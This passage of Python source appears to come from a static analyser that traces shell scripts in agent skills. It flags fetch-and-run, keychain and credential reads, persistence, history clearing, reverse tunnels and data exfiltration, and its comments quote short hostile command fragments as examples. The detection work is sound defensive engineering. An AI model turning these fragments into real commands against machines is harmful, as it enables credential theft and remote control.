            substituted = child.type == "command_substitution" and len(text.split()) > 1
            if (expands_ifs and " " in text.strip()) or substituted:
                # `-s${IFS}http://…` unquoted: the shell splits it where $IFS expanded, into several words;
                # so it does what an unquoted `$(ls -d a b)` prints, one line or blank-separated name a word
                pieces = text.split()
                values.extend(Value(piece, value.origins) for piece in pieces)
                nodes.extend(child for _ in pieces)
                continue
            values.append(value)
            nodes.append(child)
        return values, nodes

    def command(self, node: Node, stdin: Value, redirects: list[Node]) -> Value:
        for child in node.named_children:
            if child.type == "herestring_redirect":
                parts = [self.value(c) for c in child.named_children]
                stdin = joined(parts, " ") if parts else stdin
            elif child.type == "heredoc_redirect":
                stdin = self.heredoc(child)
        values, nodes = self.words(node)
        if not values:
            return UNKNOWN
        self.variables["_"] = values[-1]  # bash's $_: the last word of the command before (`. "$_"` after `curl -o F`)
        line = self.anchor or self.line(node)
        if "user-data-dir" in self.out.snippet.text or "profile-directory" in self.out.snippet.text:
            self.driven_browser([v.text for v in values[1:]], line)
        if values[0].text == "tee" and b">(" in (node.text or b""):
            for written in nodes:  # `tee >(bash)`: the command in the substitution reads what tee copies
                if written.type == "process_substitution" and (written.text or b"").startswith(b">("):
                    self.inner(self.variables, self.depth).statements(written, stdin)
        # a substituted command's output used as the command itself: `$(curl …)` runs the download
        head = values[0]
        if head.of(Source.FETCHED) or head.of(Source.DECODED):
            self.out.executes(line, head, "runs it as a command")
        elif stdin.origins and head.text is None and not head.origins and (nodes[0].text or b"").startswith(b"$"):
            self.configured_shell_reads(line, stdin)
        located = _located_program(values)
        if located is not None:
            return located
        values = _unwrapped(values)
        if not values:
            return UNKNOWN
        program = values[0].pattern or ""
        if program in self.files and (program.startswith(("/", "./", "~", "$")) or "/" in program or "\\" in program):
            self.out.executes(line, self.files[program], f"runs it ({program})")
        elif self.extracted is not None and "/" in program and not program.startswith(("/usr/", "/bin/", "/opt/")):
            self.out.executes(line, self.extracted, f"runs it ({program}, unpacked from the download)")
        elif program and "/" not in program:
            placed = self.on_path(program)  # `curl … | sudo tee /usr/local/bin/tool`, then `tool`
            if placed is not None:
                self.out.executes(line, placed[1], f"runs it ({program}, put in {placed[0]})")
        if "/" in program:  # `./scripts/push.sh list.txt`: a bundled script run by its path, as `bash` runs it
            self.piped_into_script(program, stdin, line)
            self.handed_to_script(program, values[1:], line)
            if program.endswith((".sh", ".bash")):
                self.run_with_secrets(program, values[1:], line)
                self.filled_by_script(program, values[1:], line)
                self.fetched_by_script(program, values[1:], line)
            self.copied_by_script(program, values[1:], line)
        ran = script_output(program) if "/" in program else None
        if ran is not None:
            return ran
        name = vocabulary.command_name(values[0].text or "")
        args = values[1:]
        texts = [a.text for a in args]
        own = values[0].text or ""
        if own in self.functions and own not in self.calling and len(self.calling) < _MAX_CALL_DEPTH:
            return self.call(own, args, stdin)
        if hub.trusts_remote_code(texts):
            self.hub_model(texts, line)
        handler = _HANDLERS.get(name)
        if values[0].text in ("$SHELL", "$0"):
            handler = _Walker.shell
        if handler is _Walker.shell and not stdin.origins and stdin.text is None:
            stdin = self.standard_input(line)  # after `exec 0<&3`, a shell started reads the connection
        if handler is not None:
            result: Value = handler(self, name, args, texts, stdin, line, redirects)
            return result
        return self.generic(name, args, texts, stdin, line)

    def configured_shell_reads(self, line: int, stdin: Value) -> None:
        """A download piped into a command the script reads from a data file of the skill at run time
        (``curl … | $pipe``, ``pipe`` read out of ``steps.json``), when a data file the script names
        holds a shell reading its input (``["sh", "-s"]``, ``"bash -s"``): the config picks the shell
        that runs the download, the script only glues the two."""
        if not stdin.of(Source.FETCHED):
            return
        table = BUNDLED.get() or {}
        own = self.out.snippet
        prefix = own.path[: -len(own.rel)] if own.rel and own.path.endswith(own.rel) else ""
        for rel, text in table.items():
            if not rel.lower().endswith(DATA_SUFFIXES) or PurePosixPath(rel).name not in own.text:
                continue
            named = _CONFIGURED_SHELL.search(text[:65536])
            if named is not None:
                row = text.count("\n", 0, named.start()) + 1
                shell = Evidence(
                    prefix + rel, row, f"names the shell the download is piped into: {named.group().strip()}"
                )
                fetched = stdin.of(Source.FETCHED)
                run = self.out.at(line, f"pipes it into the command read from {rel}")
                self.out.emit(Kind.EXEC_FETCHED, fetched[0].detail, *(o.evidence for o in fetched), shell, run)
                return

    def on_path(self, program: str) -> tuple[str, Value] | None:
        """A downloaded file this script put in a folder on ``PATH`` under the name it now runs."""
        if not self.files.any_written():
            return None
        for folder in _PATH_FOLDERS:
            placed = self.files.written(folder + program)
            if placed is not None and placed.of(Source.FETCHED):
                return folder + program, placed
        return None

    def password_asked(self, name: str, texts: list[str | None], line: int) -> Value | None:
        """What a password dialog prints: the password the user types into it (``osascript -e 'display
        dialog … with hidden answer'``, ``zenity --password``), a secret read from the user."""
        shown = vocabulary.password_dialog(name, texts)
        if shown is None:
            return None
        evidence = self.out.at(line, f"asks the user for a password in a dialog ({shown})")
        self.out.emit(Kind.SECRET_READ, vocabulary.TYPED_PASSWORD, evidence)
        return Value(None, (Origin(Source.SECRET, vocabulary.TYPED_PASSWORD, evidence),))

    def generic(self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int) -> Value:
        if name in ("test", "[") and len(args) >= 2 and (texts[0] or "").encode() in _PATH_TESTS:
            self.out.looked_for(line, vocabulary.home_path(args[1].pattern or ""))
        if name in ("cd", "pushd"):
            folder = next((a.pattern for a in args if a.pattern and not a.pattern.startswith("-")), None)
            self.cwd = vocabulary.home_path(folder).rstrip("/") if folder and "*" not in folder else None
            entered = vocabulary.home_path(folder).rstrip("/") if folder else ""
            if entered in self.handed_downloads:  # into a folder a bundled helper unpacked a download into
                self.extracted = self.handed_downloads[entered]
            if self.out.snippet.presentation is Presentation.STEP and entered.startswith(("~/", "/")):
                # a folder whose start is spelled out (`~/.cache/q/$(date +%F)`): later steps work in it
                moved_into(self.out.snippet.path, self.out.snippet.first_line + line - 1, entered)
                self.entered = entered
            return UNKNOWN
        if name in ("pytest", "py.test"):
            self.test_report(texts)
        if name in ("gpg", "gpg2") and "--import" in texts and self.fetched_operand(args, texts, stdin):
            self.downloaded_key = True
        verified = (
            name in _VERIFIERS and not self.failure_ignored and _verifies(name, texts) and self.files.any_written()
        )
        if verified and not self.fetched_reference(name, args, texts, stdin):
            self.files.mark_checked(line)
        if name in _QUERY_TOOLS:
            setting = _queried_setting(texts)
            if setting is not None:
                return Value(setting)
        if name in ("cat", "tee") and all((t or "").startswith("-") or name == "tee" for t in texts):
            for target in args if name == "tee" else []:
                if target.pattern and not target.pattern.startswith("-"):
                    self.files[target.pattern] = stdin
                    self.tool_config(line, target.pattern, stdin)
                    self.system_sources(line, target.pattern, stdin)
                    label = vocabulary.persistence_target(target.pattern)
                    if label:
                        self.persist(line, label, target.pattern, stdin.text or "", stdin)
            return stdin
        origins = list(stdin.origins)  # filters pass their input on: fold, cut, gzip, sed …
        if name in ("cat", "tac") and _names_files(texts):
            origins = []  # `cat a b` prints a and b; its standard input is never read
        for arg in args:
            origins.extend(arg.origins)
        if name in _READERS or name.startswith(("security", "get-content")):
            named = self.names_in_list_file(name, texts)  # `tar czf p.tgz -T files.txt`: the files it names
            origins.extend(self.listed_secret_files(name, texts))
            origins.extend(self.reads(name, [*_file_operands(name, args), *named], line))
        if stdin.pattern and _reads_names_from_stdin(name, texts):
            # `ls -d .ssh .netrc | tar czf - -T -`: the archiver reads the files its input names, the
            # known ones among them when some are made at run time (`.ssh/$(basename "$k")`)
            listed = [w for w in stdin.pattern.split() if w.strip("*")]
            origins.extend(self.reads(name, [Value(w) for w in listed[:_MAX_LISTED_NAMES]], line))
        if name in _LIST_READERS:
            origins.extend(self.listed_stores(name, args, line))
        if name == "find":
            origins.extend(o for p in _home_searches(texts) if (o := self.out.secret_read(line, p, "searches for")))
        asked = self.password_asked(name, texts, line)
        if asked is not None:
            origins.extend(asked.origins)
        token = vocabulary.printed_credential(name, texts)
        if token is not None:
            evidence = self.out.at(line, f"reads {token} ({name} {' '.join(t or '?' for t in texts)})")
            self.out.emit(Kind.SECRET_READ, token, evidence)
            origins.append(Origin(Source.SECRET, token, evidence))
        if (
            name == "security"
            and texts
            and texts[0] in ("find-generic-password", "find-internet-password", "dump-keychain")
        ) or (name in ("secret-tool", "kwallet-query") and any(t in ("lookup", "search", "-r") for t in texts)):
            # macOS's keychain, the Secret Service (GNOME keyring, KWallet) on Linux
            evidence = self.out.at(line, f"reads the keychain ({name} {texts[0]})")
            self.out.emit(Kind.SECRET_READ, "the keychain", evidence)
            origins.append(Origin(Source.SECRET, "the keychain", evidence))
        if name == "git":
            self.git([a.pattern for a in args], line)
            self.out.git_address(args, line)
        if name == "git" and len(texts) >= 3 and texts[0] == "config":
            key = next((t for t in texts[1:] if t and not t.startswith("-")), "")
            setting = vocabulary.git_config_persistence(key)
            idx = texts.index(key) if setting else 0
            later = " ".join(t or "?" for t in texts[idx + 1 :])
            if setting and key.lower().startswith("alias.") and not later.lstrip("'\"").startswith("!"):
                setting = None  # an alias of git commands runs no shell
            if setting and (not texts[idx + 1 :] or _GIT_CONFIG_READS.intersection(texts[1:idx])):
                setting = None  # `git config --get-all credential.helper` (or no value) reads the setting
            if setting:
                hooks = self.hooks_held(later) if key.lower() == "core.hookspath" else ()
                self.out.emit(
                    Kind.PERSISTENCE, f"{setting}" + (" (runs code)" if runs_code(later) or hooks else ""),
                    *hooks, self.out.at(line, f"sets {key} = {later}"),
                )  # fmt: skip
            if setting and key.lower().endswith("credential.helper"):
                shaped = " ".join(a.pattern or "?" for a in args[idx + 1 :])  # !python3 */scripts/cred.py
                self.credential_helper(later.strip("'\" "), line, shaped.strip("'\" "))
        if (
            name in ("crontab",)
            and (not texts or texts[-1] in ("-", None) or (texts and texts[0] not in ("-l", "-r", "-e")))
            and "-l" not in texts
            and "-r" not in texts
        ):
            given = next((t for t in texts if t and not t.startswith("-")), None)
            table = (self.files.get(given) or bundled_text(given) or UNKNOWN) if given else stdin
            self.persist(line, "cron", f"crontab {given or '-'}", table.text or "", table)
        if name == "sed" and any((t or "").startswith("-i") or t == "--in-place" for t in texts) and args:
            edited = args[-1].pattern or ""
            label = vocabulary.persistence_target(edited)
            scripts = [a.pattern for a in args[:-1]]  # `$a …` with a variable in the line still adds it
            script = next((t for t in scripts if t and re.match(r"^[\d$/]*\s*[aic]\s*\\?", t)), None)
            if label and script:
                added = re.sub(r"^[\d$/]*\s*[aic]\s*\\?\s*", "", script)
                self.persist(line, label, edited, added, Value(added))
        if name == "launchctl" and texts and texts[0] in ("load", "bootstrap", "submit", "enable"):
            rest = " ".join(t or "?" for t in texts)
            plist = next((a for a in args if (a.pattern or "").endswith(".plist")), None)
            content = self.files.get(plist.pattern or "", UNKNOWN) if plist is not None else UNKNOWN
            if texts[0] == "submit":
                content = Value(rest)
            self.persist(line, "a launchd agent", rest, content.text or "", content)
        if name == "systemctl" and "--user" in texts and any(t in ("enable", "start") for t in texts):
            self.persist(line, "a systemd unit", " ".join(t or "?" for t in texts), "", UNKNOWN)
        if name in ("schtasks", "register-scheduledtask", "new-scheduledtask") and (
            name != "schtasks" or any((t or "").lower() == "/create" for t in texts)
        ):
            self.persist(
                line,
                "a scheduled task",
                " ".join(t or "?" for t in texts),
                " ".join(t or "" for t in texts),
                UNKNOWN,
            )
        if name in ("sc", "sc.exe") and (texts[:1] or [""])[0] in ("create", "config") and len(texts) > 1:
            # sc create NAME binPath= "…" start= auto: a Windows service runs that command at every boot
            command = " ".join(t or "?" for t in texts[2:])
            self.persist(line, "a Windows service", f"{name} {texts[0]} {texts[1] or '?'}", command, UNKNOWN)
        if name in ("reg", "new-itemproperty", "set-itemproperty") and any(
            re.search(r"currentversion\W*run", (t or "").lower()) is not None for t in texts
        ):
            self.persist(
                line, "a Windows Run key", " ".join(t or "?" for t in texts), " ".join(t or "" for t in texts), UNKNOWN
            )
        if name in ("ln", "cp", "install", "mv", "ditto") and len(args) >= 2:
            destination = args[-1].pattern or ""
            if destination and not destination.startswith("-"):
                source = next((a for a in args[:-1] if a.pattern and not a.pattern.startswith("-")), UNKNOWN)
                if name == "install" and not (args[-2].pattern or "-").startswith("-"):
                    source = args[-2]  # install -o root -m 0755 FILE DEST: the flags take values
                copied = self.files.get(source.pattern or "", UNKNOWN) if source.pattern else UNKNOWN
                if copied.text is None and not copied.origins:
                    copies.copied(destination, source.pattern or "", self.out, line)
                    copied = bundled_text(source.pattern or "") or copied
                fetched_copy = copied.of(Source.FETCHED) or (self.extracted.origins if self.extracted else ())
                if fetched_copy and destination.rsplit("/", 1)[-1] == "SKILL.md":
                    self.replaces_instructions(line, destination, fetched_copy)
                if copied.of(Source.FETCHED) and name != "ln":
                    self.put_on_path(line, destination, copied, source.pattern or "")
                # into a folder (`cp hook .git/hooks/`), the file keeps its name; `x/.gitconfig.log` is a file
                named_file = re.search(r".\.[A-Za-z]{2,5}$", destination.rstrip("/").rsplit("/", 1)[-1])
                into = destination.rstrip("/") + "/" + (source.pattern or "").rsplit("/", 1)[-1]
                label = vocabulary.persistence_target(destination) or (
                    vocabulary.persistence_target(into) if named_file is None or destination.endswith("/") else None
                )
                if label:
                    self.persist(line, label, destination, copied.text or "", copied)
        if name == "at" or name == "batch":
            self.persist(line, "an at job", " ".join(t or "?" for t in texts), stdin.text or "", stdin)
        if name == "systemd-run" and any((t or "").startswith(("--on-", "--timer")) for t in texts):
            rest = " ".join(t or "?" for t in texts)
            self.persist(line, "a systemd timer", "systemd-run", rest, Value(rest, merged(*(a.origins for a in args))))
        if name == "defaults" and texts[:1] == ["write"] and len(texts) > 1:
            label = vocabulary.persistence_target(texts[1] or "")
            if label:
                rest = " ".join(t or "?" for t in texts[2:])
                self.persist(line, label, texts[1] or "?", rest, Value(rest))
        if name in _AGENT_CLIS and texts[:2] == ["mcp", "add-json"]:
            named = _mcp_add_operands(args[2:])
            if len(named) >= 2:
                self.registered_server(named[0].text or "?", named[1], line)
        if name in ("history",) and "-c" in texts:
            self.out.emit(Kind.CONCEAL, "history cleared", self.out.at(line, "clears the shell history"))
        if name == "unset" and "IFS" in texts:
            self.separator = None  # back to the default blank
        if name == "unset" and any(t in ("HISTFILE",) for t in texts):
            self.out.emit(Kind.CONCEAL, "history off", self.out.at(line, "turns shell history off"))
        if name == "set" and texts[:1] == ["--"]:
            self.positional(args[1:])
        if name == "set" and "+o" in texts and "history" in texts:
            self.out.emit(Kind.CONCEAL, "history off", self.out.at(line, "turns shell history off"))
        if (
            name in ("rm", "shred", "unlink")
            and any(t in ("$0", None) or (t or "").endswith(("BASH_SOURCE", "$0")) for t in texts[-1:])
            and any(a.text == "$0" for a in args)
        ):
            self.out.emit(Kind.CONCEAL, "deletes itself", self.out.at(line, "deletes the script that ran"))
        if name == "go" and texts[:2] == ["env", "-w"]:
            for assignment in texts[2:]:
                key, equals, written = (assignment or "").partition("=")
                if equals and re.fullmatch(r"\w+", key):
                    self.setting(line, key, Value(written))
        if name in vocabulary.DNS_TOOLS:
            self.dns(name, args, stdin, line)
            domain = next(
                (
                    a.pattern
                    for a in args
                    if a.pattern and "." in a.pattern and not a.pattern.startswith(("-", "+", "@"))
                ),
                None,
            )
            if domain:  # what a lookup answers (a TXT record) is data from whoever runs that zone
                looked_up = self.out.at(line, f"looks up {domain}")
                if _asks_for_text(args):
                    self.out.emit(Kind.FETCH, domain, self.out.at(line, f"reads the TXT record of {domain}"))
                return Value(None, (Origin(Source.FETCHED, domain, looked_up),))
        if name == "ztcp" and texts and texts[0] and not texts[0].startswith("-"):
            shelled = " (remote shell)" if "$REPLY" in self.out.snippet.text else ""
            self.out.emit(
                Kind.RAW_SOCKET, f"{texts[0]}{shelled}", self.out.at(line, f"opens a raw connection to {texts[0]}")
            )
        if name in ("whoami", "hostname", "id", "uname", "ifconfig", "ipconfig", "hostnamectl", "logname"):
            return Value(None, (Origin(Source.IDENTITY, "user and host names", self.out.at(line, f"reads {name}")),))
        if name == "git" and _git_identity(texts):
            shown = " ".join(t for t in texts if t)
            return Value(
                None, (Origin(Source.IDENTITY, "the user's git identity", self.out.at(line, f"reads git {shown}")),)
            )
        if name in ("awk", "gawk", "mawk", "nawk"):
            for command in _awk_commands(" ".join(t for t in texts if t)):
                self.nested(Value(command), line)  # system("…"), "…" | getline, print … | "…"
        if name in ("awk", "gawk") and any("/inet/tcp/" in (t or "") or "/inet/udp/" in (t or "") for t in texts):
            program = next(t for t in texts if t and "/inet/" in t)
            peer = re.search(r"/inet/(?:tcp|udp)/\d+/([^/\"']+)", _awk_folded(program))
            where = peer.group(1) if peer else "?"
            whole = " ".join(t or "" for t in texts)  # the socket may be named in a -v assignment
            shelled = " (remote shell)" if re.search(r"\bsh\b|bash", program) or _awk_runs(whole) else ""
            self.out.emit(
                Kind.RAW_SOCKET, f"{where}{shelled}", self.out.at(line, f"{name} opens a raw connection to {where}"),
            )  # fmt: skip
        for source_url in _package_source_urls(name, texts):
            recipes = (name, (texts[0] or "") if texts else "") in _RECIPE_REPOSITORIES
            unknown = recipes and not packages.known_registry_host(source_url)
            shown = f"adds the package source {source_url} ({name})"
            self.package_source(
                line,
                source_url,
                shown + (" (install recipes from an unknown git host)" if unknown else ""),
                unsigned=next((t for t in texts if (t or "").lower() in _UNSIGNED_SOURCE_FLAGS), None),
                unknown_recipes=unknown,
            )
        remote_content = _remote_content_run(name, texts)
        if remote_content:  # wmic /format:URL, cmstp: a Windows program that fetches script content and runs it
            self.out.executes(line, Value(None, (self.out.fetched(line, remote_content),)), f"runs it ({name})")
        remote_package = _installed_remote_package(name, args, texts)
        if remote_package:  # a package installer given a URL fetches the package and runs its install scripts
            self.out.executes(line, Value(None, (self.out.fetched(line, remote_package),)), f"installs it ({name})")
        for package in _installed_package_files(name, args, texts):
            if package in self.files and self.files[package].of(Source.FETCHED):
                # the package file was downloaded: installing it runs its scripts (pre/post-install, custom actions)
                self.out.executes(line, self.files[package], f"installs it ({name} {package})")
        if name in ("deno", "bun") and len(args) >= 2 and texts[0] in ("run", "x", "install"):
            remote = next((a.pattern for a in args[1:] if a.pattern and _URLISH.match(a.pattern)), None)
            if remote:
                self.out.executes(line, Value(None, (self.out.fetched(line, remote),)), f"runs it ({name} {texts[0]})")
        if name in vocabulary.ENV_DUMPERS and vocabulary.dumps_environment(name, texts):
            origins.append(self.out.env_dump(line, " ".join([name, *(t or "?" for t in texts)])))
        elif name == "printenv":  # `printenv DEPLOY_TOKEN`, `printenv "$v"`: the variables named
            for text in texts:
                if text and not text.startswith("-"):
                    origins.extend(self.named_variable(text, line, f"printenv {text}").origins)
        if name in ("tar", "unzip", "7z", "bsdtar") and (any("x" in (t or "") for t in texts[:1]) or name == "unzip"):
            fetched = [o for o in merged(stdin.origins, *(a.origins for a in args)) if o.source is Source.FETCHED]
            fetched += [
                o for a in args if a.pattern in self.files for o in self.files[a.pattern or ""].of(Source.FETCHED)
            ]
            if fetched:
                self.extracted = Value(None, tuple(fetched))
                folder = _extracted_into(name, texts)
                if folder:  # another script may run a file from there
                    self.files.unpack(folder, self.extracted)
        if name == "git" and texts and texts[0] == "clone":
            url = next((a.pattern for a in args[1:] if a.pattern and "://" in a.pattern), None)
            if url and not packages.known_code_host(url):
                self.extracted = Value(None, (self.out.fetched(line, url),))
        if name == "git" and _fetches_submodules(texts):
            for folder, url in _submodules():  # each submodule is cloned from the address .gitmodules gives
                origin = self.out.fetched(line, url)
                said = f"fetches submodule {folder} from {url} (.gitmodules)"
                origin = dataclasses.replace(origin, evidence=dataclasses.replace(origin.evidence, what=said))
                self.files.unpack(folder.removeprefix("./"), Value(None, (origin,)))
        if name in ("docker", "podman", "nerdctl") and texts and texts[0] in ("run", "create"):
            self.container_secrets(args, texts, line)
            self.host_given_to_an_unknown_image(texts, line)
        elsewhere = _run_elsewhere(name, texts) if name in _ELSEWHERE_RUNNERS else None
        if elsewhere is not None:  # a container, a pod or another machine runs it: the same command
            self.nested(Value(elsewhere), line)
        if name == "ssh" and any((t or "").startswith("-R") for t in texts):
            login = next((t for t in reversed(texts) if t and not t.startswith("-") and "@" in t), None)
            relay = login.split("@")[-1] if login else None
            forwards = " ".join(t or "" for t in texts)
            if relay and not vocabulary.is_local_host(relay):
                # the local SSH port opened to a remote host is a way back in; another port is a tunnel
                shelled = (
                    " (remote shell: reverse tunnel)" if re.search(r":22\b|:ssh\b", forwards) else " (reverse tunnel)"
                )
                self.out.emit(
                    Kind.RAW_SOCKET, f"{relay}{shelled}",
                    self.out.at(line, f"opens a reverse tunnel from {relay} into this machine"),
                )  # fmt: skip
        exposes = not (
            texts and texts[0] == "access"
        )  # `cloudflared access ssh`: the client reaching a host, not a tunnel
        if (
            exposes
            and name in _TUNNELS
            and any(t in ("22", "ssh", "tcp") or (t or "").rsplit(":", 1)[-1] == "22" for t in texts)
        ):
            self.out.emit(
                Kind.RAW_SOCKET, f"{name} (remote shell: tunnel to the local SSH port)",
                self.out.at(line, f"exposes this machine's SSH port to the internet with {name}"),
            )  # fmt: skip
        remote = None
        if name in ("scp", "rsync", "sftp", "rclone") and origins:
            remote = next((t for t in texts[1:] if t and re.match(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)", t)), None)
            if remote is not None:
                host = remote.split("@", 1)[-1].split(":", 1)[0]
                if not vocabulary.is_local_host(host):
                    self.out.egress(line, host, Value(None, merged(tuple(origins))), "copies")
        if remote is None and name == "rsync" and _over_ssh(texts) and _pushed_to_unknown(args):
            # `rsync -e ssh … "$TARGET/"`: a remote shell is the transport, so the target is another
            # machine, its address read at run time
            self.out.egress(line, "?", Value(None, merged(tuple(origins))), "copies over ssh")
        stored = _object_store_upload(name, texts)
        if stored is not None:
            # a file copied into a bucket leaves the machine like an upload: to whoever owns the bucket
            sources, bucket = stored
            sent = merged(tuple(self.reads("cat", [args[i] for i in sources], line)), stdin.origins)
            if sent:  # a build folder published to the team's bucket is what these commands are for
                self.out.egress(line, bucket, Value(None, sent), "copies")
        if name in ("gh", "glab"):
            words = [t if t is not None else a.pattern for t, a in zip(texts, args, strict=True)]
            # a key file the snippet wrote (echo "ssh-ed25519 …" > k.pub) is given as its text
            self.grant(grants.gh_grant([self.operand_text(w, stdin) for w in words]), line, name)
        if name == "gh" and texts[:2] == ["gist", "create"]:
            # a gist is a public or secret paste on GitHub: what it is given leaves the machine
            files = [a for a in args[2:] if not (a.text or "").startswith("-")]
            sent = merged(tuple(self.reads("cat", files, line)), stdin.origins)
            if sent:
                self.out.egress(line, "gist.github.com", Value(None, sent), "uploads")
        if name in ("gh", "glab") and len(texts) >= 2 and (texts[0], texts[1]) in _POSTING_SUBCOMMANDS:
            # an issue or review comment, a new issue, a release note: text others read on the code host
            posted = [a for t, a in zip(texts, args, strict=True) if t is None or not t.startswith("-")][2:]
            bodies = [a for flag, a in zip(texts, args[1:], strict=False) if flag in _BODY_FLAGS]
            body_files = [a for flag, a in zip(texts, args[1:], strict=False) if flag in _BODY_FILE_FLAGS]
            from_files = tuple(self.reads("cat", body_files, line))
            sent = merged(*(a.origins for a in (*posted, *bodies)), from_files, stdin.origins)
            if any(o.source in (Source.SECRET, Source.ENV) for o in sent):
                where = f"a {texts[0]} {texts[1]} on {'GitHub' if name == 'gh' else 'GitLab'} (text others read)"
                self.out.egress(line, where, Value(None, sent), "posts")
        registered = _registered_server(name, texts)
        if registered is not None:
            return self.dispatch(args[registered:], UNKNOWN, line)
        if name == "xargs":
            return self.xargs(args, texts, stdin, line)
        if name == "find" and any(t in ("-exec", "-execdir", "-ok") for t in texts):
            return self.find_exec(args, texts, stdin, line, origins)
        if name == "find":
            unpacked = self.found_in_unpacked(texts)
            if unpacked is not None:
                return unpacked
        if name == "mktemp":
            # a fresh temporary path, one per call: what is written into it and then sent is followed
            template = next((t for t in texts if t and not t.startswith("-")), None)
            return Value(template or f"/tmp/tmp.mktemp-{line}")
        if name == "dirname":
            parent = _parent_folder(args)
            if parent is not None:  # `tar -C "$(dirname "$out")" …`: the folder a path written to is in
                return parent
        if name == "read":
            self.read_into(texts, stdin)
            return UNKNOWN
        if name in ("mapfile", "readarray"):  # the lines of its input, into an array (MAPFILE by default)
            arrays = [t for t in texts if t and re.fullmatch(r"[A-Za-z_]\w*", t)]
            self.variables[arrays[-1] if arrays else "MAPFILE"] = Value(stdin.text, stdin.origins)
            return UNKNOWN
        if name in ("python", "python3") and len(texts) >= 2 and texts[0] == "-m" and texts[1] in ("pip",):
            return self.install("pip", args[2:], [t for t in texts[2:]], stdin, line, [])
        if name == "ls" and any(t in ("-d", "--directory", "-1d", "-d1") for t in texts):
            listed = [t for t in texts if t and not t.startswith("-")]
            if listed:  # `ls -d a b` prints the names it is given
                return Value("\n".join(listed), merged(tuple(origins)))
        if name == "ls":
            newest = self.written_files_listed(args)
            if newest is not None:
                return newest
        filtered = self.filtered(name, args, stdin, tuple(origins)) if name in _TEXT_FILTERS else None
        if filtered is not None:
            return filtered
        substituted = _sed_over_input(texts, stdin) if name == "sed" else None
        if substituted is not None:
            return Value(substituted, merged(tuple(origins)))
        if name in _LINE_PICKERS and stdin.pattern is not None and all(_line_count_word(t) for t in texts):
            # `… | head -n1`, `… | sort -r`: some of the names it is handed, as names still
            return Value(stdin.text, merged(tuple(origins)), stdin.shape)
        printed = _printed_bundled_file(name, [a.pattern for a in args]) if not origins else None
        if printed is not None:
            return printed
        handed = self.written_text(name, args) if not origins else None
        if handed is not None:
            return handed
        return Value(None, merged(tuple(origins)))

    def filtered(self, name: str, args: list[Value], stdin: Value, read_here: tuple[Origin, ...]) -> Value | None:
        """What ``awk PROGRAM`` or ``cut`` prints when what it reads is known: one of the skill's own
        files (its path may hold a part known only at run time: ``"$(dirname "$0")/../conf.ini"``), a
        file an earlier step wrote, or text piped in (``grep ^url conf.ini | cut -d= -f2``). What the
        command was found to read (``read_here``: the stores a bundled list names) goes with it."""
        words = [
            arg.text if arg.text is not None else _UNKNOWN_PATH + arg.shape if arg.shape and "/" in arg.shape else None
            for arg in args
        ]
        if any(word is None for word in words):
            return None
        carried: list[tuple[Origin, ...]] = []

        def read(operand: str | None) -> str | None:
            if operand is None:
                given: Value | None = stdin
            elif operand.startswith(_UNKNOWN_PATH):
                given = bundled_text(operand.removeprefix(_UNKNOWN_PATH))
            else:
                given = self.files.get(operand) or bundled_text(operand)
            if given is None or given.text is None:
                return None
            carried.append(given.origins)
            return given.text

        from skillgrade.rules.security.behaviour import filters  # only where awk or cut runs: the hook stays light

        known = [word for word in words if word is not None]
        printed = filters.cut(known, read) if name == "cut" else filters.awk(known, read)
        return Value(printed, merged(*carried, read_here)) if printed is not None else None

    def hooks_held(self, folder: str) -> tuple[Evidence, ...]:
        """Where the hooks a skill wrote into the folder ``core.hooksPath`` names were decoded or
        downloaded (this snippet or another): git runs them on every commit, push or checkout of every
        repository, so they are the setting's code."""
        folder = vocabulary.home_path(folder.strip("'\" ").rstrip("/"))
        if not folder or "?" in folder or "*" in folder:
            return ()
        held = self.files.get(folder + "/*")
        loaded = tuple(o.evidence for o in held.origins if o.source in (Source.FETCHED, Source.DECODED)) if held else ()
        return loaded or copies.held_in(folder)  # hooks written whole: judged by what they do

    def read_into(self, texts: list[str | None], stdin: Value) -> None:
        """``read`` sets its variables from its input: one variable gets the first line, or all of it
        with ``-d ''`` (``read -r -d '' BLOCK <<'EOF'`` is how a script holds a block it writes later),
        its text when known; several get what the input carries, their split not followed."""
        names: list[str] = []
        whole = False
        index = 0
        while index < len(texts):
            text = texts[index] or ""
            if text.startswith("-"):
                valued = text[-1] in _READ_VALUE_FLAGS
                if valued and text.endswith("d"):
                    whole = index + 1 < len(texts) and texts[index + 1] == ""
                index += 2 if valued else 1
                continue
            if re.fullmatch(r"[A-Za-z_]\w*", text):
                names.append(text)
            index += 1
        for variable in names:
            self.variables[variable] = Value(None, stdin.origins)
        if len(names) == 1 and stdin.text is not None:
            read = stdin.text if whole else stdin.text.split("\n", 1)[0]
            self.variables[names[0]] = Value(read.strip(), stdin.origins)

    def written_files_listed(self, args: list[Value]) -> Value | None:
        """What ``ls`` prints for one operand that names a file this step or another wrote (``ls -1t
        "$root"/out/*.tar.gz | head -n1``, the newest archive a script packed): that name, so the
        command handed it reads the file. A folder's listing is its entries, so only a written file's
        own path counts."""
        operands = [a for a in args if not (a.pattern or "-").startswith("-")]
        if len(operands) != 1 or not operands[0].pattern:
            return None
        path = operands[0].pattern
        stored = self.files.get(path)
        if stored is None or not stored.origins:
            return None
        return Value(path) if operands[0].text is not None else Value(None, (), path)

    def written_text(self, name: str, args: list[Value]) -> Value | None:
        """What ``cat FILE`` prints when this step or another wrote FILE with known text: a value
        handed on through a file (a host, the path of a download kept for the next step)."""
        if name not in ("cat", "head") or len(args) != 1 or not args[0].pattern:
            return None
        stored = self.files.get(args[0].pattern)
        if stored is not None and stored.text is None and stored.shape and _one_path(stored.shape):
            return Value(
                None, stored.origins, stored.shape.strip()
            )  # the path of this run's archive, kept for the next step
        if stored is None or stored.text is None or len(stored.text) > 4096:
            return None
        return Value(stored.text.strip() if "\n" not in stored.text.strip() else stored.text, stored.origins)

    def driven_browser(self, texts: list[str | None], line: int) -> None:
        """A browser started on the user's own profile (``--user-data-dir=<real profile>``, or
        ``--profile-directory`` in the default folder) for a program to drive: with a DevTools port
        open, headless, or with the script reading the session's cookies, that is the browser's
        credential store handed to the script."""
        opened = automation.opened_profile(texts)
        if opened is None:
            return
        driven = any((t or "").startswith(("--remote-debugging", "--headless", "--dump-dom")) for t in texts)
        read = automation.session_read_line(self.out.snippet.text)
        if not driven and read is None:
            return  # the user's browser opened on their profile, for them to use
        store, folder = opened
        chain = [self.out.at(line, f"starts the browser on the user's profile {vocabulary.home_path(folder)}")]
        if read is not None:
            chain.append(self.out.at(read[0], read[1]))
        self.out.emit(Kind.SECRET_READ, store, *chain)

